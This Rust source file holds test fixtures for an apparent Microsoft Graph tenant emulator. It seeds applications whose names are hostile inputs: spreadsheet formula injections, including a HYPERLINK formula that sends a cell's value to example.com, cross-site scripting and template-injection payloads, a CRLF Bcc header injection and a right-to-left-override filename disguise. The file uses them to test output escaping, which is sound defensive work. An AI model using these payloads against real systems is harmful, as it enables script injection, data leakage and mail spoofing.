//! Cases of foreign text, of owners unknown and of pages that fail.

use chrono::{DateTime, TimeDelta, Utc};
use serde_json::json;

use super::{TenantData, perfect};
use crate::emulator::shapes::{secret, user};
use crate::emulator::{Fault, Side};

/// Names that a spreadsheet would run, each on an application with a live secret.
#[must_use]
pub fn names_with_formulas(now: DateTime<Utc>) -> TenantData {
    let names = [
        "=HYPERLINK(\"https://example.com/?\"&A1,\"Payroll\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ];
    named(now, &names)
}

/// Names that a browser or a template would take for its own.
#[must_use]
pub fn names_with_markup(now: DateTime<Utc>) -> TenantData {
    let names = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "</title></style><h1>Payroll</h1>",
        "{{ 7 * 7 }} {% raw %}",
        "\"' onmouseover='alert(1)",
        "&lt;already&gt; &amp; escaped",
    ];
    named(now, &names)
}

/// Names that would add a header to a mail, a line to a log or a row to a table, and some that read
/// otherwise than they are written.
#[must_use]
pub fn names_with_line_breaks(now: DateTime<Utc>) -> TenantData {
    let names = [
        "Payroll\r\nBcc: everyone@example.com",
        "Payroll\nsecond line",
        "Payroll\u{2028}separated",
        "Payroll \u{202e}txe.exe",
        "Payroll\u{0}\u{7}",
        "",
    ];
    named(now, &names)
}

/// A service principal of type `Legacy` whose owner tenant is not recorded, with a live secret.
#[must_use]
pub fn owner_organization_null(now: DateTime<Utc>) -> TenantData {
    let mut tenant = perfect(now);
    let legacy = secret("legacy", now - TimeDelta::days(10), Some(now + TimeDelta::days(80)));
    tenant.add_service_principal(json!({
        "displayName": "Old Connector",
        "servicePrincipalType": "Legacy",
        "appOwnerOrganizationId": null,
        "passwordCredentials": [legacy],
    }));
    tenant
}

/// Ten applications on pages of two. Graph answers every request for the third page of a listing of
/// applications with a 500.
#[must_use]
pub fn page_3_of_5_fails(now: DateTime<Utc>) -> TenantData {
    let mut tenant = perfect(now);
    for number in 2..=10 {
        let owners = json!([user("Adele Vance")]);
        tenant.add_application(json!({ "displayName": format!("Service {number}"), "owners": owners }));
    }
    tenant.page_size = Some(2);
    let error = Fault::graph_error("Service_InternalServerError", "Encountered an internal server error.");
    let fault = Fault::on(Side::Graph, "GET", "/v1.0/applications").on_page(3).always();
    tenant.faults.push(fault.answer(500, &error));
    tenant
}

fn named(now: DateTime<Utc>, names: &[&str]) -> TenantData {
    let mut tenant = perfect(now);
    for name in names {
        let secret = secret(name, now - TimeDelta::days(10), Some(now + TimeDelta::days(80)));
        let application = tenant.add_application(json!({
            "displayName": name,
            "notes": name,
            "owners": [user("Adele Vance")],
            "passwordCredentials": [secret],
        }));
        tenant.add_service_principal_of(&application);
    }
    tenant
}
